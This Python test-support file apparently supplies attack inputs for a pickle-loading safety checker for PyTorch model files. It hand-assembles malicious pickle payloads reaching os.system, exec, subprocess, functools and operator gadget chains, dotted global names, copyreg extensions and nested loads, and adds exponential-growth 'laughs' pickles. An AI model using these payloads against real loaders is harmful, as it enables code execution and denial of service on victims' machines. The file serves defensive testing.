"""Attacks on programs that load a pickle: hand-written instructions of the pickle machine."""

import io
from collections.abc import Callable
from dataclasses import dataclass

import torch

from tests.support.torch_files import TENSOR


def name(module: str, attribute: str) -> bytes:
    return f"c{module}\n{attribute}\n".encode()


def name4(module: str, attribute: str) -> bytes:
    """STACK_GLOBAL, which follows dots in names."""
    return text(module) + text(attribute) + b"\x93"


def text(word: str) -> bytes:
    encoded = word.encode("utf-8", "surrogatepass")
    return b"X" + len(encoded).to_bytes(4, "little") + encoded


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + b"(" + b"".join(arguments) + b"tR"


def module_os() -> bytes:
    return call(name("importlib", "import_module"), text("os"))


@dataclass(frozen=True)
class Payload:
    """An attack.

    Attributes:
        make: Its bytes, from the path of the file that it makes when it runs.
        named: What the message has to say.
        live: Whether `pickle.loads` runs it as it is.
    """

    make: Callable[[str], bytes]
    named: str
    live: bool = True


def legacy(path: str) -> bytes:
    """What torch.save wrote before 1.6, with a payload inside: `_load_from_bytes` reads such without any check."""

    class Touch:
        def __reduce__(self) -> object:
            return exec, (f"open({path!r}, 'w').close()",)

    stream = io.BytesIO()
    torch.save(Touch(), stream, _use_new_zipfile_serialization=False)
    return stream.getvalue()


def in_bytes(content: bytes) -> bytes:
    return b"B" + len(content).to_bytes(4, "little") + content


PAYLOADS = {
    "os.system": Payload(lambda p: call(name("os", "system"), text(f"touch {p}")), "os.system"),
    "posix.system": Payload(lambda p: call(name("posix", "system"), text(f"touch {p}")), "posix.system"),
    "exec": Payload(lambda p: call(name("builtins", "exec"), text(f"open({p!r}, 'w')")), "builtins.exec"),
    "eval": Payload(lambda p: call(name("builtins", "eval"), text(f"open({p!r}, 'w')")), "builtins.eval"),
    "Python 2's eval": Payload(
        lambda p: call(name("__builtin__", "eval"), text(f"open({p!r}, 'w')")), "__builtin__.eval"
    ),
    "open": Payload(lambda p: call(name("builtins", "open"), text(p), text("w")), "builtins.open"),
    "Popen": Payload(
        lambda p: call(name("subprocess", "call"), b"(" + text("touch") + text(p) + b"l"), "subprocess.call"
    ),
    "runpy": Payload(
        lambda p: call(
            name("runpy", "_run_code"),
            call(name("builtins", "compile"), text(f"open({p!r}, 'w')"), text("x"), text("exec")),
            b"}",
        ),
        "runpy._run_code",
    ),
    "a partial": Payload(
        lambda p: call(call(name("functools", "partial"), name("os", "system"), text(f"touch {p}"))),
        "functools.partial",
    ),
    "partials in partials": Payload(
        lambda p: call(
            call(
                name("functools", "partial"),
                call(name("functools", "partial"), name("os", "system")),
                text(f"touch {p}"),
            )
        ),
        "functools.partial",
    ),
    "attrgetter": Payload(
        lambda p: call(call(call(name("operator", "attrgetter"), text("system")), module_os()), text(f"touch {p}")),
        "operator.attrgetter",
    ),
    "methodcaller": Payload(
        lambda p: call(call(name("operator", "methodcaller"), text("system"), text(f"touch {p}")), module_os()),
        "operator.methodcaller",
    ),
    "getattr": Payload(
        lambda p: call(call(name("builtins", "getattr"), module_os(), text("system")), text(f"touch {p}")),
        "builtins.getattr",
    ),
    "map": Payload(
        lambda p: call(
            name("builtins", "list"),
            call(name("builtins", "map"), name("os", "system"), b"(" + text(f"touch {p}") + b"l"),
        ),
        "builtins.list",
    ),
    "a dotted name": Payload(
        lambda p: b"\x80\x04" + call(name4("os", "path.os.system"), text(f"touch {p}")), "os.path.os.system"
    ),
    "a dotted name of a known module": Payload(
        lambda p: b"\x80\x04" + call(name4("torch", "os.system"), text(f"touch {p}")), "torch.os.system"
    ),
    "a dotted name of a known type": Payload(
        lambda p: b"\x80\x04" + call(name4("torch", "FloatStorage.from_file"), text(p), b"\x88", b"K\x01"),
        "torch.FloatStorage.from_file",
        live=False,
    ),
    "globals of a known function": Payload(
        lambda p: b"\x80\x04" + name4("torch._utils", "_rebuild_tensor_v2.__globals__"),
        "torch._utils._rebuild_tensor_v2.__globals__",
        live=False,
    ),
    "INST": Payload(lambda p: b"(" + text(f"touch {p}") + b"ios\nsystem\n", "os.system"),
    "INST in text": Payload(lambda p: f"(S'touch {p}'\nios\nsystem\n".encode(), "os.system"),
    "OBJ": Payload(lambda p: b"(" + name("os", "system") + text(f"touch {p}") + b"o", "os.system"),
    "NEWOBJ": Payload(lambda p: name("subprocess", "Popen") + b")\x81", "subprocess.Popen", live=False),
    "NEWOBJ_EX": Payload(
        lambda p: b"\x80\x04" + name("subprocess", "Popen") + b")}\x92", "subprocess.Popen", live=False
    ),
    "BUILD": Payload(
        lambda p: call(
            call(name("functools", "partial"), name("builtins", "print"))
            + b"("
            + name("os", "system")
            + b"("
            + text(f"touch {p}")
            + b"t}NtbN0"
        ),
        "functools.partial",
    ),
    "BUILD with slots": Payload(
        lambda p: call(name("collections", "OrderedDict")) + b"N}\x86b", "set the state", live=False
    ),
    "hooks of a tensor": Payload(
        lambda p: TENSOR.replace(
            name("collections", "OrderedDict") + b")R", call(name("os", "system"), text(f"touch {p}"))
        ),
        "os.system",
        live=False,
    ),
    "state of a parameter": Payload(
        lambda p: call(name("torch._utils", "_rebuild_parameter_with_state"), TENSOR, b"\x89", b"}", b"}"),
        "_rebuild_parameter_with_state",
        live=False,
    ),
    "a subclass of a tensor": Payload(
        lambda p: call(
            name("torch._tensor", "_rebuild_from_type_v2"), name("os", "system"), name("builtins", "dict"), b")", b"}"
        ),
        "torch._tensor._rebuild_from_type_v2",
        live=False,
    ),
    "torch.load inside": Payload(
        lambda p: call(name("torch.storage", "_load_from_bytes"), in_bytes(legacy(p))), "torch.storage._load_from_bytes"
    ),
    "torch.serialization": Payload(
        lambda p: call(name("torch.serialization", "load"), text(p)), "torch.serialization.load", live=False
    ),
    "torch.fx": Payload(
        lambda p: call(name("torch.fx.graph_module", "reduce_graph_module"), b"}", text("import os")),
        "torch.fx.graph_module.reduce_graph_module",
        live=False,
    ),
    "torch.package": Payload(
        lambda p: call(name("torch.package.package_importer", "PackageImporter"), text(p)),
        "torch.package.package_importer.PackageImporter",
        live=False,
    ),
    "torch.hub": Payload(
        lambda p: call(name("torch.hub", "load"), text("a/b"), text("c")), "torch.hub.load", live=False
    ),
    "numpy": Payload(
        lambda p: call(
            name("numpy.core.multiarray", "_reconstruct"), name("numpy", "ndarray"), b"K\x00\x85", text("b")
        ),
        "numpy.core.multiarray._reconstruct",
        live=False,
    ),
    "numpy's tests": Payload(
        lambda p: call(name("numpy.testing._private.utils", "runstring"), text(f"open({p!r}, 'w')"), b"}"),
        "numpy.testing._private.utils.runstring",
    ),
    "codecs": Payload(
        lambda p: call(name("_codecs", "encode"), text("x"), text("latin1")), "_codecs.encode", live=False
    ),
    "copyreg": Payload(
        lambda p: call(name("copyreg", "_reconstructor"), name("builtins", "object"), name("builtins", "object"), b"N"),
        "copyreg._reconstructor",
        live=False,
    ),
    "the registry of extensions": Payload(
        lambda p: (
            call(name("copyreg", "add_extension"), text("os"), text("system"), b"K\x77")
            + b"0"
            + call(b"\x82\x77", text(f"touch {p}"))
        ),
        "copyreg.add_extension",
    ),
    "an extension": Payload(lambda p: call(b"\x82\x77", text(f"touch {p}")), "extension registry (EXT1)", live=False),
    "a pickle inside": Payload(
        lambda p: call(name("_pickle", "loads"), in_bytes(call(name("os", "system"), text(f"touch {p}")) + b".")),
        "_pickle.loads",
    ),
    "marshal": Payload(lambda p: call(name("marshal", "loads"), in_bytes(b"N")), "marshal.loads", live=False),
    "ctypes": Payload(lambda p: call(name("ctypes", "CDLL"), text(p)), "ctypes.CDLL", live=False),
    "sys.modules": Payload(lambda p: name("sys", "modules"), "sys.modules", live=False),
    "a persistent id that calls": Payload(
        lambda p: call(name("os", "system"), text(f"touch {p}")) + b"Q", "os.system", live=False
    ),
    "a persistent id of text": Payload(lambda p: f"Pos.system('touch {p}')\n".encode(), "os.system", live=False),
    "a persistent id of a module": Payload(
        lambda p: b"(" + text("module") + name("os", "system") + text(p) + text("x") + b"tQ", "os.system", live=False
    ),
    "a name in other letters": Payload(
        lambda p: b"\x80\x04" + call(name4("\uff4f\uff53", "system"), text(p)), "\uff4f\uff53.system", live=False
    ),
    "a name of nothing": Payload(lambda p: b"\x80\x04" + call(name4("", ""), text(p)), "to use .", live=False),
    "a name over two lines": Payload(
        lambda p: b"\x80\x04" + call(name4("os\nx", "system"), text(p)), r"os\nx.system", live=False
    ),
    "a name that steers a terminal": Payload(
        lambda p: b"\x80\x04" + call(name4("\x1b[2J", "x"), text(p)), r"\x1b[2J.x", live=False
    ),
    "a name without end": Payload(
        lambda p: b"\x80\x04" + call(name4("os" * 100_000, "x"), text(p)), "osososos", live=False
    ),
}


# Values that double, or grow tenfold, with each step: a few kB that would be 2^200 things.
LAUGHS = {
    "tuples": b")"
    + b"\x94h\x00h\x00\x86"
    + b"".join(b"\x94" + (b"h" + bytes([n])) * 2 + b"\x86" for n in range(1, 200)),
    "lists": b"]\x94" + b"".join(b"]\x94" + b"(" + (b"h" + bytes([n])) * 10 + b"e" for n in range(200)),
    "dicts": b"}\x94"
    + b"".join(b"}\x94" + b"".join(b"K" + bytes([k, ord("h"), n]) + b"s" for k in range(10)) for n in range(200)),
    "by long numbers": b")r\x00\x00\x00\x00"
    + b"".join(
        b"j" + n.to_bytes(4, "little") + b"j" + n.to_bytes(4, "little") + b"\x86r" + (n + 1).to_bytes(4, "little")
        for n in range(20_000)
    ),
}
